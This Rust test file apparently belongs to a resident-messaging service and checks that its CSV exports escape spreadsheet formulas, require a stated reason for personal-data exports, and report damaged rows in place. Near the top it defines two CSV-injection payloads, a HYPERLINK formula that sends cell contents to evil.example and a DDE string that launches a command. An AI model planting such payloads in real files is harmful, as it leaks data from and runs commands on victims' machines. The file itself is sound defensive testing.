//! Every CSV export opened in Excel shows what people and other systems
//! wrote as text, never as a formula (OWASP "CSV injection"): a crafted sign-in
//! in the audit log, a resident's card registration, a delivery title, a
//! resident's free text and staff's own attribute names. Exports of personal
//! data need a stated reason, and one damaged card row does not cut the
//! card export short.

use serde_json::{Value, json};
use tenohira::auth::Permission::*;
use tenohira_tests::{Options, TestApp, assert_no_formula, csv_records, data};

const LINK: &str = "=HYPERLINK(\"https://evil.example/c?\"&B2&C2,\"詳細\")";
const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// The row of `records` holding `needle` in some cell.
fn row_with<'a>(records: &'a [Vec<String>], needle: &str) -> &'a Vec<String> {
    records
        .iter()
        .find(|r| r.iter().any(|c| c.contains(needle)))
        .unwrap_or_else(|| panic!("no row holds {needle:?}: {records:?}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_crafted_sign_in_attempt_is_plain_text_in_the_audit_log_csv() {
    let t = TestApp::spawn().await;
    let r = reqwest::Client::new()
        .post(format!("{}/graphql", t.base))
        .header("content-type", "application/json")
        .header("user-agent", DDE)
        // A request id passes only as a short token; one may still start with "-".
        .header("x-request-id", "-2-3")
        .json(&json!({
            "query": "mutation($i: LoginInput!) { login(input: $i) { stage } }",
            "variables": {"i": {"loginId": LINK, "password": "wrong-password"}}
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let reader = t.signed_in("auditor", &[AuditRead]).await;
    let res = reader.get("/exports/audit-log.csv").await;
    assert_eq!(res.status(), 200);
    let records = csv_records(&res.text().await.unwrap());
    assert_no_formula(&records);
    let attempt = row_with(&records, "HYPERLINK");
    assert!(attempt.contains(&format!("'{LINK}")), "{attempt:?}");
    assert!(attempt.contains(&format!("'{DDE}")), "{attempt:?}");
    assert!(attempt.contains(&"'-2-3".to_string()), "{attempt:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_holder_name_that_is_a_formula_stays_text_and_a_damaged_row_is_reported_in_place() {
    let t = TestApp::spawn().await;
    let mut tokens = vec![];
    for name in [LINK, "埼玉 花子", "-1+1"] {
        let user = t.bulk_friends(1).await.remove(0);
        let token = t.fake.id_token(json!({"userId": user})).await;
        let r = t
            .liff_vars(
                Some(&token),
                "mutation($i: CardInput!) { savePapaMamaCard(input: $i) { registered } }",
                json!({"i": {"holderName": name, "relation": "母",
                             "children": [{"name": "=1+1", "birthDate": "2019-05-05"}]}}),
            )
            .await;
        data(&r);
        tokens.push(user);
    }
    // One row's sealed name is damaged (a disk error, a bad restore).
    {
        use diesel_async::RunQueryDsl;
        diesel::sql_query(
            "UPDATE card_holders SET holder_name = '\\x00010203'::bytea WHERE line_user_id = $1",
        )
        .bind::<diesel::sql_types::Text, _>(&tokens[1])
        .execute(&mut t.db().await)
        .await
        .unwrap();
    }
    let exporter = t.signed_in("exporter", &[CardPiiExport]).await;
    assert_eq!(
        exporter.get("/exports/card-holders.csv").await.status(),
        400,
        "a reason is required"
    );
    let res = exporter
        .get("/exports/card-holders.csv?reason=%E7%A2%BA%E8%AA%8D")
        .await;
    assert_eq!(res.status(), 200);
    let records = csv_records(&res.text().await.unwrap());
    assert_no_formula(&records);
    assert_eq!(records.len(), 4, "the header and all three holders");
    assert!(row_with(&records, "HYPERLINK").contains(&format!("'{LINK}")));
    assert!(row_with(&records, "-1+1").contains(&"'-1+1".to_string()));
    let damaged = row_with(&records, &tokens[1]);
    assert_eq!(damaged[2], tenohira::card::export::UNREADABLE);
    assert_eq!(damaged.len(), records[0].len());
}

#[tokio::test(flavor = "multi_thread")]
async fn delivery_titles_and_residents_free_text_stay_text_and_figures_stay_numbers() {
    let t = TestApp::spawn_with(Options {
        with_workers: true,
        ..Default::default()
    })
    .await;
    let staff = t
        .signed_in("designer", &[SegmentManage, DeliveryCreate, DeliverySend])
        .await;
    let r = staff
        .gql(
            "mutation($i: AttributeInput!) { createAttribute(input: $i) { id } }",
            json!({"i": {"name": "@SUM(A1:A9)", "kind": "FREE_TEXT"}}),
        )
        .await;
    let attribute = data(&r)["createAttribute"]["id"].as_i64().unwrap();
    let user = t.fake.user(false).await;
    t.fake
        .post(&format!("/_fake/users/{user}/follow"), json!({}))
        .await;
    t.eventually(10, "the friend", || async { t.count("friends").await == 1 })
        .await;
    let token = t.fake.id_token(json!({"userId": user})).await;
    let r = t
        .liff_vars(
            Some(&token),
            "mutation($i: MySettingsInput!) { saveMySettings(input: $i) { registered } }",
            json!({"i": {"freeText": [{"attributeId": attribute, "text": LINK}]}}),
        )
        .await;
    data(&r);

    let exporter = t.signed_in("exporter", &[FriendExport]).await;
    assert_eq!(
        exporter.get("/exports/friend-settings.csv").await.status(),
        400,
        "a reason is required, as the README says"
    );
    let res = exporter
        .get("/exports/friend-settings.csv?reason=%E9%9B%86%E8%A8%88")
        .await;
    assert_eq!(res.status(), 200);
    let body = res.text().await.unwrap();
    let records = csv_records(&body);
    assert_no_formula(&records);
    assert!(
        records[0].contains(&"'@SUM(A1:A9)".to_string()),
        "{:?}",
        records[0]
    );
    assert!(row_with(&records, "HYPERLINK").contains(&format!("'{LINK}")));
    // Our own internal id is a bare number in the file, not a quoted text.
    assert!(body.contains("\r\n1,U"), "{body}");

    let r = staff
        .gql(
            "mutation($i: DeliveryInput!) { createDelivery(input: $i) { id } }",
            json!({"i": {"title": "=1+1 お知らせ", "messages": [{"text": "本文"}], "target": {"all": true}}}),
        )
        .await;
    let id = data(&r)["createDelivery"]["id"].as_i64().unwrap();
    t.eventually(10, "the audience index to see the friend", || async {
        staff
            .gql("{ deliveryTargetCount(target: {all: true}) }", json!({}))
            .await["data"]["deliveryTargetCount"]
            == 1
    })
    .await;
    let r = staff
        .gql(
            "mutation($id: Int!) { scheduleDelivery(id: $id) { id } }",
            json!({"id": id}),
        )
        .await;
    data(&r);
    t.eventually(20, "the delivery to complete", || async {
        let r: Value = staff
            .gql(
                "query($id: Int!) { delivery(id: $id) { status } }",
                json!({"id": id}),
            )
            .await;
        r["data"]["delivery"]["status"] == "COMPLETED"
    })
    .await;
    let body = staff
        .get("/exports/deliveries.csv")
        .await
        .text()
        .await
        .unwrap();
    let records = csv_records(&body);
    assert_no_formula(&records);
    let row = row_with(&records, "お知らせ");
    assert_eq!(row[1], "'=1+1 お知らせ");
    // Recipients, accepted and failed are numbers Excel can sum.
    assert!(body.contains(",1,1,0,"), "{body}");
}
